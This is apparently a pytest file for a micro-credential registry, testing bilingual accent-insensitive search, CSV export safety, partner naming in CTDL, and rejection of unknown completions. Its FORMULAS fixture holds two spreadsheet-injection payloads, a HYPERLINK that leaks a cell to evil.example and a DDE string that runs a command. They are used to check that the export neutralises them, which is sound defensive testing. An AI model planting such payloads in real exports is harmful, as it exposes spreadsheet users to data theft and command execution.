"""Catalogue details: search ignores accents and case in both languages (with its index), the CSV
export neutralises formulas, partners are named in the item and in CTDL, and a completion for a
micro-credential nobody published is rejected as unknown."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import asyncpg
import pytest

from shared.db.urls import to_asyncpg_dsn
from shared.schemas.auth import OrganisationKind
from tests.support.issuer import Sis, record
from tests.support.micro_credentials import Registrar, ready_metadata
from tests.support.platform import Platform

FORMULAS = {
    "en": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "fr": "+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
async def college(platform: Platform) -> Registrar:
    _, registrar = await platform.new_domci("ontario_public_college")
    return Registrar(platform, registrar)


@pytest.fixture(scope="module")
async def partner(platform: Platform) -> dict[str, Any]:
    return await platform.new_organisation(
        OrganisationKind.ALTERNATE_PROVIDER,
        name_en="Northern Welders Guild",
        name_fr="Guilde des soudeurs du Nord",
    )


@pytest.fixture(scope="module")
async def shelf(platform: Platform, college: Registrar, partner: dict[str, Any]) -> dict[str, Any]:
    accented = await college.published(
        ready_metadata(
            title={"en": "Café equipment safety", "fr": "Sécurité nautique à Québec"},
            description={"en": "Working safely.", "fr": "Prévenir les accidents près de l'écluse."},
            partners=[{"organisation_id": partner["id"], "role": "co_awarding"}],
        )
    )
    formula = await college.published(ready_metadata(title=FORMULAS))
    return {"accented": accented, "formula": formula}


async def found(platform: Platform, college: Registrar, q: str) -> set[str]:
    response = await platform.http.get(
        f"{platform.registry.public_url}/v1/catalogue/micro-credentials",
        params={"q": q, "provider": str(college.organisation_id), "limit": 100},
    )
    assert response.status_code == 200, response.text
    return {item["id"] for item in response.json()["items"]}


@pytest.mark.parametrize(
    "q",
    [
        "securite",
        "SECURITE",
        "Sécurité",
        "sécurité nautique",
        "securite nautique a quebec",
        "ecluse",
        "cafe",
        "CAFÉ",
    ],
)
async def test_search_ignores_accents_and_case_in_both_languages(
    platform: Platform, college: Registrar, shelf: dict[str, Any], q: str
) -> None:
    assert shelf["accented"]["id"] in await found(platform, college, q)


async def test_search_still_finds_only_what_matches(
    platform: Platform, college: Registrar, shelf: dict[str, Any]
) -> None:
    assert await found(platform, college, "securite") == {shelf["accented"]["id"]}
    assert await found(platform, college, "hyperlink") == {shelf["formula"]["id"]}
    assert await found(platform, college, "plomberie") == set()


async def test_the_search_columns_keep_their_index(platform: Platform, shelf: dict[str, Any]) -> None:
    """With sequential scans off (the test table is tiny), the planner can answer the accent-free
    query from the GIN indexes: the query's configuration matches the indexed columns."""
    connection = await asyncpg.connect(to_asyncpg_dsn(platform.registry.database_url.get_secret_value()))
    try:
        async with connection.transaction():
            await connection.execute("set local enable_seqscan = off")
            plan = "\n".join(
                row[0]
                for row in await connection.fetch(
                    "explain select micro_credential_id from registry.micro_credential_versions "
                    "where search_fr @@ websearch_to_tsquery('registry.omc_french'::regconfig, 'securite') "
                    "or search_en @@ websearch_to_tsquery('registry.omc_english'::regconfig, 'securite')"
                )
            )
    finally:
        await connection.close()
    assert "ix_micro_credential_versions_search_fr" in plan, plan
    assert "ix_micro_credential_versions_search_en" in plan, plan


async def test_the_csv_export_neutralises_formulas_and_jsonl_keeps_the_text(
    platform: Platform, shelf: dict[str, Any]
) -> None:
    url = f"{platform.registry.public_url}/v1/catalogue/export"
    exported = await platform.http.get(url, params={"format": "csv"})
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    row = rows[shelf["formula"]["id"]]
    assert row["title_en"] == "'" + FORMULAS["en"]
    assert row["title_fr"] == "'" + FORMULAS["fr"]
    for cell in (cell for exported_row in rows.values() for cell in exported_row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    lines = [json.loads(line) for line in (await platform.http.get(url)).text.splitlines()]
    item = next(line for line in lines if line["id"] == shelf["formula"]["id"])
    assert item["title"] == FORMULAS


async def test_a_partner_is_named_in_the_item_and_in_ctdl(
    platform: Platform, shelf: dict[str, Any], partner: dict[str, Any]
) -> None:
    url = f"{platform.registry.public_url}/v1/catalogue/micro-credentials/{shelf['accented']['id']}"
    item = (await platform.http.get(url)).json()
    assert item["partners"] == [
        {
            "id": partner["id"],
            "slug": partner["slug"],
            "kind": "alternate_provider",
            "provider_type": "employer",
            "name_en": "Northern Welders Guild",
            "name_fr": "Guilde des soudeurs du Nord",
            "ctid": partner.get("ctid"),
            "role": "co_awarding",
        }
    ]
    document = (await platform.http.get(url, params={"format": "jsonld"})).json()
    for relation in ("ceterms:ownedBy", "ceterms:offeredBy"):
        names = [organisation["ceterms:name"].get("en") for organisation in document[relation]]
        assert "Northern Welders Guild" in names, document[relation]
    co_owner = next(
        o for o in document["ceterms:ownedBy"] if o["ceterms:name"].get("en") == "Northern Welders Guild"
    )
    assert co_owner["@type"] == "ceterms:CredentialOrganization"
    assert co_owner["ceterms:name"]["fr"] == "Guilde des soudeurs du Nord"
    assert co_owner["ceterms:identifier"][0]["ceterms:identifierValueCode"] == partner["id"]
    assert co_owner["ceterms:agentType"][0]["ceterms:targetNodeName"] == {"en": "employer"}


async def test_a_completion_for_an_unknown_micro_credential_is_rejected_as_unknown(
    platform: Platform, college: Registrar, shelf: dict[str, Any]
) -> None:
    sis = await Sis.of(platform, str(college.organisation_id))
    unknown = str(uuid.uuid4())
    response = await sis.send([record(unknown), record(shelf["accented"]["id"], version=7)])
    assert response.status_code == 202, response.text
    job = await sis.settled(response.json()["id"])
    reasons = {completion["micro_credential_id"]: completion["reason"] for completion in job["completions"]}
    assert (
        reasons[unknown]
        == f"Unknown micro-credential: the registry has no published micro-credential {unknown}."
    )
    assert reasons[shelf["accented"]["id"]] == (
        f"Version 7 of micro-credential {shelf['accented']['id']} has never been published in the registry."
    )
